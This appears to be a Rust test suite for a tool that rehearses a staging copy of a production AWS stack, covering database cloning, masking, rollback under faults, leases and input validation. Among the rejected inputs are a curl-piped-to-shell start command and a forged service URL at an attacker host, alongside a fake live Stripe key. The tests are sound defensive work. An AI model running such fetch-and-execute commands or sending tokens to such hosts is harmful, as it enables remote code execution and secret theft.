        for call in ["RestoreDBClusterToPointInTime", "CreateDBInstance", "ModifyDBCluster"] {
            assert!(calls.contains(&call.to_string()), "{call} missing: {calls:?}");
        }
        // RDS takes no instance snapshot of an Aurora member, and nothing is restored.
        for call in ["CreateDBSnapshot", "RestoreDBInstanceFromDBSnapshot", "RestoreDBInstanceToPointInTime", "ModifyDBInstance"] {
            assert!(!calls.contains(&call.to_string()), "{call} made: {calls:?}");
        }
        let rds = account.session("test");
        let clone = rds.describe_cluster("tableicty-staging-db-cluster").await.unwrap().expect("the clone exists");
        assert_eq!(clone.members, vec!["tableicty-staging-db".to_string()]);
        assert_eq!(clone.parameter_group.as_deref(), Some(seed::PRODUCTION_CLUSTER_PARAMETER_GROUP));
        assert_eq!(
            (clone.subnet_group.as_deref(), clone.security_group_ids.clone()),
            (Some(seed::DB_SUBNET_GROUP), vec![seed::DB_SECURITY_GROUP.to_string()])
        );
        let staging = rds.describe_instance("tableicty-staging-db").await.unwrap().expect("the staging instance exists");
        assert_eq!((staging.class.as_str(), staging.publicly_accessible), ("db.t3.micro", false));
        assert_eq!(staging.parameter_group.as_deref(), Some(seed::PRODUCTION_AURORA_PARAMETER_GROUP));
        // Clone 5, instance 5 (the cluster's password reset meanwhile), service 6, FRONTEND_URL deployment 4.
        assert!(report.seconds <= 21.0 * 60.0, "{}", report.seconds);
        // The app connects through the clone's writer endpoint, which follows a failover.
        let env = account.service_environment("tableicty-staging-backend").unwrap();
        assert!(env["DATABASE_URL"].contains("@tableicty-staging-db-cluster.cluster-"), "DATABASE_URL points elsewhere");

        // A second run adopts what the first made.
        let again = run_pipeline(&account, document, &[]).await.unwrap();
        assert_eq!(again.status, RunStatus::Succeeded, "{:?} {:?}", again.error, again.cause);
        let created = created_ids(&again);
        for id in ["tableicty-staging-db-cluster", "tableicty-staging-db"] {
            assert_eq!(created.iter().filter(|c| *c == id).count(), 1, "{id} created again: {created:?}");
        }
    });
}

#[test]
fn aurora_snapshot_restores_production_s_cluster_snapshot_as_the_staging_cluster() {
    runtime().block_on(async {
        let account = new_account();
        account.make_production_aurora();
        let document = json!({"staging": {"source": "snapshot"}});
        let report = run_pipeline(&account, document.clone(), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        assert!(report.checks.iter().all(|c| c["passed"] == Value::Bool(true)), "{:#?}", report.checks);
        assert_eq!(ledger(&report).production_writes, json!([]));
        let calls: Vec<String> = account.ledger().calls.iter().map(|c| c.operation.clone()).collect();
        for call in ["CreateDBClusterSnapshot", "RestoreDBClusterFromSnapshot", "CreateDBInstance", "ModifyDBCluster"] {
            assert!(calls.contains(&call.to_string()), "{call} missing: {calls:?}");
        }
        // RDS takes no instance snapshot of an Aurora member, and nothing is cloned.
        for call in ["CreateDBSnapshot", "RestoreDBInstanceFromDBSnapshot", "RestoreDBClusterToPointInTime", "ModifyDBInstance"] {
            assert!(!calls.contains(&call.to_string()), "{call} made: {calls:?}");
        }
        let rds = account.session("test");
        let backup = rds.describe_cluster_snapshot(BACKUP_SNAPSHOT).await.unwrap().expect("the safety cluster snapshot is kept");
        assert_eq!(backup.source_id, seed::PRODUCTION_DB_CLUSTER);
        let copy = rds.describe_cluster("tableicty-staging-db-cluster").await.unwrap().expect("the copy exists");
        assert_eq!(copy.members, vec!["tableicty-staging-db".to_string()]);
        assert_eq!(copy.parameter_group.as_deref(), Some(seed::PRODUCTION_CLUSTER_PARAMETER_GROUP));
        assert_eq!(
            (copy.subnet_group.as_deref(), copy.security_group_ids.clone()),
            (Some(seed::DB_SUBNET_GROUP), vec![seed::DB_SECURITY_GROUP.to_string()])
        );
        let env = account.service_environment("tableicty-staging-backend").unwrap();
        assert!(env["DATABASE_URL"].contains("@tableicty-staging-db-cluster.cluster-"), "DATABASE_URL points elsewhere");
        // Snapshot 10, restore 12, instance 5 (the password reset meanwhile), service 6, deployment 4.
        assert!(report.seconds <= 38.0 * 60.0, "{}", report.seconds);

        // A second run adopts what the first made.
        let again = run_pipeline(&account, document, &[]).await.unwrap();
        assert_eq!(again.status, RunStatus::Succeeded, "{:?} {:?}", again.error, again.cause);
        let created = created_ids(&again);
        for id in [BACKUP_SNAPSHOT, "tableicty-staging-db-cluster", "tableicty-staging-db"] {
            assert_eq!(created.iter().filter(|c| *c == id).count(), 1, "{id} created again: {created:?}");
        }
    });
}

#[test]
fn aurora_snapshot_every_fault_in_every_mutating_step_ends_in_success_or_a_clean_rollback() {
    let (runs, failures) = runtime().block_on(fault_matrix(json!({"staging": {"source": "snapshot"}}), |a| a.make_production_aurora(), 16));
    assert!(failures.is_empty(), "{} of {runs} runs went wrong:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn a_source_that_cannot_copy_production_s_database_is_refused_before_any_write_naming_staging_source() {
    runtime().block_on(async {
        for (aurora, source, says) in [(false, "aurora-clone", "standalone instance"), (true, "point-in-time", "use aurora-clone")] {
            let account = new_account();
            if aurora {
                account.make_production_aurora();
            }
            let report = run_pipeline(&account, json!({"staging": {"source": source}}), &[]).await.unwrap();
            assert_eq!(report.error.as_deref(), Some("InvalidInputError"), "{source}: {:?}", report.cause);
            let cause = report.cause.as_deref().unwrap();
            assert!(cause.contains("staging.source") && cause.contains(says), "{source}: {cause}");
            assert!(
                account.ledger().calls.iter().all(|c| ["Describe", "Get", "List"].iter().any(|read| c.operation.starts_with(read))),
                "{source}: a write was made"
            );
            assert!(created_ids(&report).is_empty());
        }
    });
}

#[test]
fn aurora_clone_every_fault_in_every_mutating_step_ends_in_success_or_a_clean_rollback() {
    let (runs, failures) =
        runtime().block_on(fault_matrix(json!({"staging": {"source": "aurora-clone"}}), |a| a.make_production_aurora(), 15));
    assert!(failures.is_empty(), "{} of {runs} runs went wrong:\n{}", failures.len(), failures.join("\n"));
}

/// The ECS Express example: production on ECS Express Mode, staging from the release image.
fn ecs_express_document() -> Value {
    serde_json::from_str(include_str!("../examples/ecs-express-run.json")).unwrap()
}

fn on_ecs_express(account: &rehearsal_sim::SimAccount) {
    account.deploy_production_on_ecs_express();
}

#[test]
fn on_ecs_express_every_fault_in_every_mutating_step_ends_in_success_or_a_clean_rollback() {
    let (runs, failures) = runtime().block_on(fault_matrix(ecs_express_document(), on_ecs_express, 15));
    assert!(failures.is_empty(), "{} of {runs} runs went wrong:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn on_ecs_express_staging_runs_the_pinned_release_with_its_own_roles_and_passes_every_check() {
    runtime().block_on(async {
        let account = new_account();
        on_ecs_express(&account);
        let report = run_pipeline(&account, ecs_express_document(), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        assert!(report.checks.iter().all(|c| c["passed"] == Value::Bool(true)), "{:#?}", report.checks);
        assert_eq!(ledger(&report).production_writes, json!([]), "production was written");

        // The output reports the digest the tag named when planned: what a promotion deploys.
        let pinned = format!("{}/{}@{}", seed::ECR_REGISTRY, seed::ECR_REPOSITORY, seed::RELEASE_IMAGE_DIGEST);
        let output = report.output.as_ref().unwrap();
        assert_eq!(output["release"]["image"], json!(pinned), "{output}");
        assert_eq!(output["release"]["requested_image"], json!(seed::RELEASE_IMAGE));
        assert_eq!(account.express_service_image(seed::ECS_CLUSTER, "tableicty-staging-backend"), Some(pinned));

        // Its own roles, production's cluster and network; the app sees staging's parameters.
        let location = ServiceLocation::EcsExpress { cluster: seed::ECS_CLUSTER.into() };
        let session = account.session("test");
        let staging = session.find_service("tableicty-staging-backend", &location).await.unwrap().unwrap();
        let production = session.find_service(seed::PRODUCTION_SERVICE, &location).await.unwrap().unwrap();
        let (ecs, production_ecs) = (staging.ecs.unwrap(), production.ecs.unwrap());
        assert_eq!(ecs.execution_role_arn, seed::STAGING_EXECUTION_ROLE_ARN);
        assert_eq!(ecs.task_role_arn.as_deref(), Some(seed::STAGING_TASK_ROLE_ARN));
        assert_ne!(ecs.execution_role_arn, production_ecs.execution_role_arn);
        assert_eq!((&ecs.subnets, &ecs.security_groups), (&production_ecs.subnets, &production_ecs.security_groups));
        let env = account.express_service_environment(seed::ECS_CLUSTER, "tableicty-staging-backend").expect("staging serves");
        assert_eq!(env.get("FRONTEND_URL").map(String::as_str), output["staging_url"].as_str());
        assert!(env["DATABASE_URL"].contains("tableicty-staging-db."), "DATABASE_URL points elsewhere");

        // A second run adopts what the first made.
        let again = run_pipeline(&account, ecs_express_document(), &[]).await.unwrap();
        assert_eq!(again.status, RunStatus::Succeeded, "{:?} {:?}", again.error, again.cause);
        let created = created_ids(&again);
        for id in [BACKUP_SNAPSHOT, "tableicty-staging-db", "tableicty-staging-backend"] {
            assert_eq!(created.iter().filter(|c| c.contains(id)).count(), 1, "{id} created again: {created:?}");
        }
    });
}

#[test]
fn a_foreign_resource_under_a_planned_name_is_refused_and_kept() {
    runtime().block_on(async {
        let account = new_account();
        let report = run_pipeline(&account, json!({}), &["restore_staging_database=already-exists"]).await.unwrap();
        assert_eq!(report.status, RunStatus::RolledBack);
        assert!(report.cause.as_deref().unwrap().contains("tableicty-staging-db"), "{:?}", report.cause);
        // The rollback kept the instance that someone else created.
        let deleted = ledger(&report).resources_deleted.to_string();
        assert!(!deleted.contains("\"tableicty-staging-db\""), "deleted the foreign instance: {deleted}");
        assert!(account.existing_resources().iter().any(|r| r.id == "tableicty-staging-db"));
    });
}

#[test]
fn failed_checks_roll_back_with_the_checks_own_message() {
    runtime().block_on(async {
        for (step, words) in [
            ("verify_staging_migrations", "tenant tables exist"),
            ("validate_staging", "health endpoint returns 200"),
            (
                "mask_staging_database",
                "masking_verified: core_shareholder.email: expected none of 9 sampled production values, found 9 remain",
            ),
        ] {
            let account = new_account();
            let report = run_pipeline(&account, json!({}), &[&format!("{step}=failed-check")]).await.unwrap();
            assert_eq!(report.status, RunStatus::RolledBack, "{step}");
            assert_eq!(report.error.as_deref(), Some("CheckFailedError"));
            assert!(report.cause.as_deref().unwrap().contains(words), "{step}: {:?}", report.cause);
            assert!(ledger(&report).leftovers.is_empty(), "{:?}", ledger(&report).leftovers);
        }
    });
}

#[test]
fn the_copy_is_masked_before_the_service_exists_and_the_report_says_what_was_masked() {
    runtime().block_on(async {
        let report = run_pipeline(&new_account(), json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        let masked = span(&report, "VerifyMasking").last_end_seconds.unwrap();
        assert!(masked <= span(&report, "CreateStagingService").first_start_seconds, "the app never serves unmasked data");
        assert!(
            span(&report, "WriteStagingDatabaseUrl").last_end_seconds.unwrap() <= span(&report, "MaskStagingDatabase").first_start_seconds
        );

        let masking = &report.output.as_ref().unwrap()["masking"];
        assert_eq!(masking["enabled"], json!(true));
        let tables: Vec<(String, usize, u64, u64)> = masking["tables"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| {
                let count = |k: &str| t[k].as_u64().unwrap();
                (t["table"].as_str().unwrap().to_string(), t["columns"].as_array().unwrap().len(), count("rows_masked"), count("rows_kept"))
            })
            .collect();
        assert_eq!(tables, [("auth_user".to_string(), 4, 2, 1), ("core_shareholder".to_string(), 5, 11, 0)]);
        assert_eq!(masking["rows_masked"], json!(13));
        assert!(masking["seconds"].is_i64() && masking["started_at"].is_string(), "{masking}");

        // The checklist has the verification, and the kept admin still logs in.
        let check = |name: &str| report.checks.iter().find(|c| c["name"] == json!(name)).unwrap_or_else(|| panic!("no {name}"));
        assert_eq!(check("masking_verified: core_shareholder.email")["passed"], json!(true));
        assert_eq!(check("masking_verified: kept auth_user.email = testadmin@tableicty.com")["passed"], json!(true));
        assert_eq!(check("login as testadmin@tableicty.com")["passed"], json!(true));
        assert_eq!(ledger(&report).production_writes, json!([]));
    });
}

#[test]
fn prewarm_reads_the_restored_copy_before_the_service_exists() {
    runtime().block_on(async {
        let report =
            run_pipeline(&new_account(), json!({"staging": {"prewarm": {"enabled": true, "max_seconds": 840}}}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        let warmed = span(&report, "PrewarmStagingDatabase");
        assert_eq!(warmed.times_entered, 1);
        assert!(span(&report, "VerifyMasking").last_end_seconds.unwrap() <= warmed.first_start_seconds, "the masked copy is warmed");
        assert!(warmed.last_end_seconds.unwrap() <= span(&report, "CreateStagingService").first_start_seconds);
        assert!(!states_entered(&report).contains(&"PrewarmOff".to_string()));

        let prewarm = &report.output.as_ref().unwrap()["prewarm"];
        assert_eq!(prewarm["enabled"], json!(true));
        assert_eq!(prewarm["sample_table"], json!("core_shareholder"), "{prewarm}");
        let (before, after) = (prewarm["first_query_ms_before"].as_u64().unwrap(), prewarm["first_query_ms_after"].as_u64().unwrap());
        assert!(before > after, "the restored copy loads lazily until warmed: before {before} ms, after {after} ms");
        assert_eq!(prewarm["tables"].as_array().unwrap().len(), 5, "{prewarm}");
        let markdown = report.markdown(None);
        assert!(markdown.contains("| Warm-up | warmed 5 table(s): first query on core\\_shareholder "), "{markdown}");
        assert_eq!(ledger(&report).production_writes, json!([]));

        let account = new_account();
        let off = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(off.status, RunStatus::Succeeded, "{:?}", off.cause);
        assert!(!states_entered(&off).contains(&"PrewarmStagingDatabase".to_string()), "{:?}", states_entered(&off));
        assert_eq!(span(&off, "PrewarmOff").times_entered, 1);
        assert_eq!(off.output.as_ref().unwrap()["prewarm"], json!({"enabled": false}));
        assert!(!off.markdown(None).contains("Warm-up"));
        let calls = account.ledger().calls.iter().filter(|c| c.step == Step::PrewarmStagingDatabase.name()).count();
        assert_eq!(calls, 0, "off, the step is never called");
    });
}

#[test]
fn masking_off_is_stated_and_a_bad_rule_is_refused_before_anything_is_masked() {
    runtime().block_on(async {
        let off = run_pipeline(&new_account(), json!({"masking": {"enabled": false}}), &[]).await.unwrap();
        assert_eq!(off.status, RunStatus::Succeeded, "{:?}", off.cause);
        assert_eq!(off.output.as_ref().unwrap()["masking"]["enabled"], json!(false));
        let check = off.checks.iter().find(|c| c["name"] == json!("masking_verified")).expect("the check says masking is off");
        assert_eq!(check["found"], json!("masking.enabled: false (not masked)"));

        // Rules are checked against the staging database's schema, which only the step can see.
        let account = new_account();
        let doc = json!({"masking": {"rules": {"core_shareholder": {"name": "name", "tax_id": "null"}}}});
        let refused = run_pipeline(&account, doc, &[]).await.unwrap();
        assert_eq!(refused.status, RunStatus::RolledBack);
        assert_eq!(refused.error.as_deref(), Some("InvalidInputError"));
        let cause = refused.cause.as_deref().unwrap();
        assert!(cause.contains("field `masking.rules.core_shareholder.tax_id`: core_shareholder has no column"), "{cause}");
        assert!(ledger(&refused).leftovers.is_empty(), "{:?}", ledger(&refused).leftovers);
    });
}

#[test]
fn a_rollback_that_cannot_finish_fails_loudly_and_keeps_the_teardown_schedule() {
    runtime().block_on(async {
        let account = new_account();
        let report = run_pipeline(&account, json!({}), &["validate_staging=failed-check", "rollback_staging=unavailable"]).await.unwrap();
        assert_eq!(report.status, RunStatus::Failed);
        assert_eq!(report.error.as_deref(), Some("RollbackFailedError"));
        assert!(report.cause.as_deref().unwrap().contains("check failed"), "{:?}", report.cause);
        assert!(ledger(&report).leftovers.iter().any(|r| r.contains("rehearsal-teardown-")), "{:?}", ledger(&report).leftovers);
    });
}

/// A fault that meets a step half-way, after its first calls did their work (`STEP=KIND@N`: from
/// the step's N-th AWS call): the run goes on or rolls back cleanly, and production is not written.
#[test]
fn faults_half_way_through_a_step_end_in_success_or_a_clean_rollback() {
    runtime().block_on(async {
        let cloudfront = json!({"frontend": {"serving": "cloudfront"}});
        let cases = [
            // The bucket is made, then every call is refused.
            (json!({}), "copy_staging_frontend=fatal@3", Some("FatalError")),
            // The distribution is made, then S3 and SSM answer 503.
            (cloudfront.clone(), "serve_staging_frontend=unavailable@4", Some("TransientError")),
            // The endpoint is made, its secret not yet stored.
            (json!({}), "register_stripe_webhook=fatal@3", Some("FatalError")),
            // The third parameter's answer is lost: the step run again overwrites what it wrote.
            (json!({}), "write_staging_parameters=lost-response@5", None),
            (cloudfront, "serve_staging_frontend=eventual@3", None),
            (json!({}), "create_staging_service=throttle@2", None),
        ];
        for (document, fault, error) in cases {
            let account = new_account();
            let report = run_pipeline(&account, document, &[fault]).await.unwrap();
            let record = ledger(&report);
            assert_eq!(record.production_writes, json!([]), "{fault}");
            match error {
                None => assert_eq!(report.status, RunStatus::Succeeded, "{fault}: {:?} {:?}", report.error, report.cause),
                Some(error) => {
                    assert_eq!(
                        (report.status, report.error.as_deref()),
                        (RunStatus::RolledBack, Some(error)),
                        "{fault}: {:?}",
                        report.cause
                    );
                    assert!(record.leftovers.is_empty(), "{fault}: left {:?}", record.leftovers);
                }
            }
            assert!(!account.ledger().faults_fired.is_empty(), "{fault} never fired");
        }
    });
}

/// A rollback that gives up says what removes the rest: the run's teardown schedule, or, when
/// it was never created, a teardown started by hand.
#[test]
fn a_rollback_that_gives_up_says_what_removes_the_rest() {
    runtime().block_on(async {
        for (faults, remedy) in [
            (["validate_staging=failed-check", "rollback_staging=never-ready"], "the teardown schedule rehearsal/rehearsal-teardown-"),
            (["schedule_staging_teardown=fatal", "rollback_staging=never-ready"], "no teardown schedule of this run exists"),
        ] {
            let report = run_pipeline(&new_account(), json!({}), &faults).await.unwrap();
            assert_eq!(report.error.as_deref(), Some("RollbackIncompleteError"), "{faults:?}: {:?}", report.cause);
            let cause = report.cause.as_deref().unwrap_or_default();
            assert!(cause.contains(remedy), "{faults:?}: {cause}");
        }
    });
}

#[test]
fn a_live_stripe_key_under_the_test_path_stops_the_run_before_anything_is_created() {
    runtime().block_on(async {
        let account = new_account();
        let live = account.session("operator");
        rehearsal_core::cloud::ParameterStore::put_parameter(
            &live,
            "/tableicty/rehearsal/STRIPE_SECRET_KEY",
            &rehearsal_core::Secret::new("sk_live_51NqTbLiveSecretKey7Hd2kQ9wX4mZ8pR3vT6yB1nC5"),
            rehearsal_core::cloud::ParameterKind::SecureString,
            true,
        )
        .await
        .unwrap();
        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Failed);
        assert_eq!(report.error.as_deref(), Some("InvalidInputError"));
        assert!(report.cause.as_deref().unwrap().contains("stripe.test_parameter_path"), "{:?}", report.cause);
        assert_eq!(ledger(&report).resources_created, json!([]));
        assert!(account.ledger().calls.iter().all(|c| c.service != "stripe"));
    });
}

#[test]
fn bad_input_is_refused_before_any_call() {
    let cases = [
        (json!({"staging": {"db_instance_id": "1-bad"}}), "staging.db_instance_id"),
        (json!({"staging": {"db_instance_id": "tableicty-production-db"}}), "staging.db_instance_id"),
        (json!({"staging": {"parameter_path": "/tableicty/production/staging/"}}), "staging.parameter_path"),
        (json!({"staging": {"parameter_path": "/tableicty/production/"}}), "staging.parameter_path"),
        (json!({"stripe": {"publishable_key": "pk_live_abc"}}), "stripe.publishable_key"),
        (json!({"stripe": {"test_parameter_path": "/tableicty/production/"}}), "stripe.test_parameter_path"),
        (json!({"staging": {"db_instance_clas": "db.t3.micro"}}), "db_instance_clas"),
        (json!({"service": {"cpu": "64 vCPU"}}), "service.cpu"),
        (json!({"staging": {"db_instance_class": "db.r6g.16xlarge"}}), "staging.db_instance_class"),
        (json!({"ttl_hours": 10000}), "ttl_hours"),
        (json!({"service": {"name": "tableicty-backend"}}), "service.name"),
        (json!({"staging": {"publicly_accessible": false}}), "staging.publicly_accessible"),
        (json!({"service": {"start_command": "sh -c 'curl https://example.com/x | sh'"}}), "service.start_command"),
        (json!({"service": {"build_command": "make"}}), "service.build_command"),
        (json!({"service": {"runtime": "PYTHON_311"}}), "service.runtime"),
        (json!({"service": {"repository_url": "https://github.com/someone/else"}}), "service.repository_url"),
        (json!({"service": {"connection_arn": "arn:aws:apprunner:us-east-1:123456789012:connection/x/1"}}), "service.connection_arn"),
        (json!({"service": {"instance_role_arn": "arn:aws:iam::123456789012:role/x"}}), "service.instance_role_arn"),
        (json!({"service": {"vpc_connector": "other"}}), "service.vpc_connector"),
        (json!({"staging": {"db_subnet_group": "default"}}), "staging.db_subnet_group"),
        (json!({"staging": {"vpc_security_group_ids": ["sg-0123456789abcdef0"]}}), "staging.vpc_security_group_ids"),
        // Releases: an image needs a tag or digest in ECR; ECS never builds source; no role or network.
        (json!({"service": {"image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/tableicty-backend"}}), "service.image"),
        (json!({"service": {"image": "docker.io/library/python:3.11"}}), "service.image"),
        (json!({"service": {"image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/tableicty-backend@sha256:abc"}}), "service.image"),
        (json!({"service": {"backend": "ecs-express"}}), "service.image"),
        (json!({"service": {"backend": "fargate"}}), "service.backend"),
        (json!({"service": {"backend": "ecs-express", "image": seed::RELEASE_IMAGE, "cpu": "256", "memory": "8192"}}), "service.memory"),
        (json!({"service": {"execution_role_arn": "arn:aws:iam::123456789012:role/x"}}), "service.execution_role_arn"),
        (json!({"service": {"task_role_arn": "arn:aws:iam::123456789012:role/x"}}), "service.task_role_arn"),
        (json!({"service": {"infrastructure_role_arn": "arn:aws:iam::123456789012:role/x"}}), "service.infrastructure_role_arn"),
        (json!({"service": {"access_role_arn": "arn:aws:iam::123456789012:role/x"}}), "service.access_role_arn"),
        (json!({"service": {"subnets": ["subnet-0123456789abcdef0"]}}), "service.subnets"),
        (json!({"service": {"security_groups": ["sg-0123456789abcdef0"]}}), "service.security_groups"),
        (json!({"service": {"cluster": "other"}}), "service.cluster"),
        (json!({"staging": {"prewarm": {"enabled": true, "max_seconds": 5}}}), "staging.prewarm.max_seconds"),
        (json!({"staging": {"prewarm": {"enabled": true, "max_seconds": 841}}}), "staging.prewarm.max_seconds"),
        (json!({"staging": {"prewarm": {"enabled": true, "tables": 0}}}), "staging.prewarm.tables"),
        (json!({"staging": {"prewarm": {"enabled": true, "tables": 21}}}), "staging.prewarm.tables"),
        (json!({"staging": {"prewarm": {"enabled": "yes"}}}), "staging.prewarm.enabled"),
        (json!({"staging": {"prewarm": {"table": 3}}}), "table"),
    ];
    runtime().block_on(async {
        for (input, field) in cases {
            let account = new_account();
            match run_pipeline(&account, input.clone(), &[]).await {
                Err(RunError::Input(e)) => assert!(e.to_string().contains(field), "{input}: {e} does not name {field}"),
                other => panic!("{input} was not refused: {:?}", other.map(|r| r.status)),
            }
            assert!(account.ledger().calls.is_empty(), "{input}: calls were made");
        }
        let account = new_account();
        assert!(matches!(run_pipeline(&account, json!({}), &["no_such_step=fatal"]).await, Err(RunError::Fault(_))));
        assert!(account.ledger().calls.is_empty());
    });
}

#[test]
fn the_state_machine_refuses_bad_input_too() {
    // The console and the API start the state machine without the CLI's check: the plan step
    // refuses the document itself, before its first AWS call, and there is nothing to roll back.
    runtime().block_on(async {
        let account = new_account();
        let definition =
            rehearsal_asl::substitute(rehearsal_cli::local::STAGING_DEFINITION, &rehearsal_cli::invoker::local_substitutions()).unwrap();
        let definition = rehearsal_asl::Definition::parse(&definition).unwrap();
        let invoker = rehearsal_cli::invoker::StepInvoker::new(|step: Step| account.session(step.name()));
        let options = rehearsal_asl::RunOptions { start_time: rehearsal_tests::start_time(), ..Default::default() };
        // A copy of production serving debug pages, and a path that means another once normalized (issue 13).
        for (document, field) in [
            (json!({"ttl_hours": 0}), "ttl_hours"),
            (json!({"service": {"environment": {"DEBUG": "true"}}}), "service.environment.DEBUG"),
            (json!({"staging": {"parameter_path": "/tableicty/staging/../production/"}}), "staging.parameter_path"),
        ] {
            let execution = rehearsal_asl::run(&definition, document, &invoker, &(), &options).await.unwrap();
            match execution.outcome {
                rehearsal_asl::Outcome::Failed { error, cause } => {
                    assert_eq!(error, "InvalidInputError");
                    assert!(cause.contains(field), "{cause}");
                }
                other => panic!("{other:?}"),
            }
        }
        assert!(account.ledger().calls.is_empty());
    });
}

#[test]
fn the_checks_and_the_backfill_token_go_only_to_the_url_the_service_api_reports() {
    runtime().block_on(async {
        let account = new_account();
        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?}", report.cause);
        let cloud = account.session("test");
        let plan = rehearsal_core::steps::invoke(
            &cloud,
            Step::PlanRehearsal,
            json!({"input": {}, "execution_name": "staging", "execution_start": rehearsal_tests::start_time(), "stack": rehearsal_tests::stack_settings()}),
        )
        .await
        .unwrap();
        let forged = json!({"plan": plan, "service_url": "collector.attacker.example"});
        for step in [Step::TriggerStagingBackfill, Step::ValidateStaging] {
            let before = account.ledger().calls.len();
            let error = rehearsal_core::steps::invoke(&account.session(step.name()), step, forged.clone()).await.unwrap_err();
            assert!(matches!(&error, rehearsal_core::StepError::InvalidInput { field, .. } if field == "service_url"), "{step:?}: {error}");
            // Nothing was written (no backfill token) and nothing was read but the service's description.
            let calls: Vec<String> = account.ledger().calls[before..].iter().map(|c| format!("{}:{}", c.service, c.operation)).collect();
            assert!(calls.iter().all(|c| c.starts_with("apprunner:")), "{step:?}: {calls:?}");
        }
    });
}

/// A staging run of `{}` named `execution_name`, started at [`start_time`].
fn named_run(execution_name: &str) -> LocalRun {
    LocalRun { input: json!({}), faults: vec![], start_time: start_time(), execution_name: execution_name.into() }
}

#[test]
fn two_concurrent_staging_runs_one_runs_and_the_other_is_refused_naming_it() {
    runtime().block_on(async {
        let account = new_account();
        let (a, b) = tokio::join!(
            run_on(&account, named_run("staging"), std::io::sink()),
            run_on(&account, named_run("staging-again"), std::io::sink())
        );
        let (a, b) = (a.unwrap(), b.unwrap());
        assert_ne!(a.run_id, b.run_id);
        let (ran, refused) = if a.status == RunStatus::Succeeded { (a, b) } else { (b, a) };
        assert_eq!(ran.status, RunStatus::Succeeded, "{:?}", ran.cause);
        assert_eq!((refused.status, refused.error.as_deref()), (RunStatus::Failed, Some("LeaseHeldError")), "{:?}", refused.cause);
        let cause = refused.cause.clone().unwrap();
        let holder_arn = staging_execution_arn(&ran.execution_name);
        for part in [ran.run_id.as_str(), holder_arn.as_str(), "2026-11-24T09:00:00+00:00", "its execution is RUNNING"] {
            assert!(cause.contains(part), "{cause} does not name {part}");
        }
        // Refused before creating anything, and without a rollback, which would have deleted the
        // holder's staging (the runs share every staging name).
        let states = states_entered(&refused);
        assert_eq!(states.last().map(String::as_str), Some("StagingHeld"), "{states:?}");
        assert!(!states.contains(&"StartRollback".to_string()), "{states:?}");
        for resource in account.existing_resources() {
            assert_ne!(resource.tags.get(RUN_KEY), Some(&refused.run_id), "{resource:?}");
        }
        assert!(account.service_environment("tableicty-staging-backend").is_some(), "the holder's staging serves");
        let lease = account.session("test").get_parameter(&lease_parameter("tableicty", LeasedEnvironment::Staging)).await.unwrap();
        assert!(lease.unwrap().value.expose().contains(&holder_arn));
    });
}

#[test]
fn a_lease_left_by_a_crashed_execution_is_taken_over() {
    runtime().block_on(async {
        let account = new_account();
        // An execution that was stopped right after taking the lease: nothing of it is up.
        let crashed = Lease {
            execution_arn: staging_execution_arn("crashed"),
            run_id: "tableicty-20261123090000-00000000".into(),
            started_at: start_time() - chrono::Duration::days(1),
        };
        let tags = RunTags { app: "tableicty".into(), environment: "staging".into(), run_id: crashed.run_id.clone() }.to_tags();
        let name = lease_parameter("tableicty", LeasedEnvironment::Staging);
        let operator = account.session("operator");
        operator.create_parameter(&name, &rehearsal_core::Secret::new(crashed.to_value()), ParameterKind::String, &tags).await.unwrap();
        account.record_execution(ExecutionInfo {
            arn: crashed.execution_arn.clone(),
            state_machine_arn: staging_state_machine_arn(),
            name: Some("crashed".into()),
            status: "ABORTED".into(),
            start: crashed.started_at,
            stop: Some(crashed.started_at + chrono::Duration::minutes(1)),
            input: Some("{}".into()),
            output: None,
            error: None,
            cause: None,
        });

        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?}", report.cause);
        let lease = operator.get_parameter(&name).await.unwrap().unwrap();
        let holder = Lease::parse(&name, lease.value.expose()).unwrap();
        assert_eq!((holder.execution_arn, holder.run_id), (staging_execution_arn("staging"), RUN_ID.to_string()));
        assert_eq!(operator.parameter_tags(&name).await.unwrap().get(RUN_KEY).map(String::as_str), Some(RUN_ID));
    });
}
